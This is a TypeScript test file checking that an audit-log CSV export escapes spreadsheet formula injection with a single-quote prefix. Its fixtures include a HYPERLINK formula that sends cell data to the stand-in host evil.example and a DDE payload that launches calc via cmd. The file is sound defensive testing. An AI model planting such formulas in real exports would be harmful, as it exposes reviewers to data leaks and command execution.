import { from as copyFrom } from "pg-copy-streams";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditExportStream } from "@/lib/audit/log/export";
import { CSV_COLUMNS } from "@/lib/audit/log/export-sql";
import { openAuditScratch, type AuditScratch } from "@/lib/audit/log/test-support";

// CSV injection: a spreadsheet runs a cell starting with = + - @ (or a tab or CR) as a formula.
// Everyone may write text that reaches the trail (titles, names, reasons), and the CSV is opened
// by reviewers in Excel, so such cells are exported with OWASP's single-quote prefix.

let scratch: AuditScratch;
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';

// The file read back by PostgreSQL's own CSV reader, one object per row keyed by the header.
async function exported(): Promise<Record<string, string>[]> {
  const text = await new Response(auditExportStream(scratch.pool, {}, "csv")).text();
  const client = await scratch.pool.connect();
  try {
    await client.query(`CREATE TEMP TABLE csv_in (${CSV_COLUMNS.map((c) => `${c} text`).join(", ")})`);
    const copy = client.query(copyFrom("COPY csv_in FROM STDIN WITH (FORMAT csv, HEADER)"));
    await new Promise<void>((resolve, reject) => copy.on("finish", resolve).on("error", reject).end(text));
    return (await client.query<Record<string, string>>("SELECT * FROM csv_in ORDER BY id::bigint")).rows;
  } finally {
    client.release(new Error("temp table"));
  }
}

beforeAll(async () => {
  scratch = await openAuditScratch();
  const { id: releaseId } = await scratch.db.release.create({ data: { title: "@SUM(1+1)*cmd|' /C calc'!A0" }, select: { id: true } });
  const at = new Date("2026-05-01T00:00:00.000Z");
  await scratch.append([
    { at, actor: { type: "SYSTEM", label: HYPERLINK }, action: "decision.recorded", releaseId, after: { verdict: "STOP", reason: HYPERLINK } },
    { at, actor: { type: "SYSTEM", label: "+1+1" }, action: "-2+3", releaseId: null, after: -1 },
    { at, actor: { type: "SYSTEM", label: "\t=1+1" }, action: "\r=1+1", releaseId: null },
    { at, actor: { type: "SYSTEM", label: "Plain O'Brien" }, action: "flag.changed", releaseId: null, after: { enabled: false } },
  ]);
}, 60_000);
afterAll(() => scratch?.close());

describe("CSV export and formula injection", () => {
  it("prefixes every cell that a spreadsheet would run as a formula with a single quote", async () => {
    const [decision, arithmetic, control, plain] = await exported();
    expect(decision).toMatchObject({ actor: `'${HYPERLINK}`, release_title: "'@SUM(1+1)*cmd|' /C calc'!A0" });
    expect(JSON.parse(decision!.after!)).toEqual({ verdict: "STOP", reason: HYPERLINK });
    expect(arithmetic).toMatchObject({ actor: "'+1+1", action: "'-2+3", after: "'-1" });
    expect(control).toMatchObject({ actor: "'\t=1+1", action: "'\r=1+1" });
    // Everything else reads back exactly as it was stored.
    expect(plain).toMatchObject({ actor: "Plain O'Brien", action: "flag.changed", description: "turned the flag off", after: '{"enabled": false}' });
    for (const row of [decision, arithmetic, control, plain]) {
      for (const value of Object.values(row!)) expect(value ?? "").not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
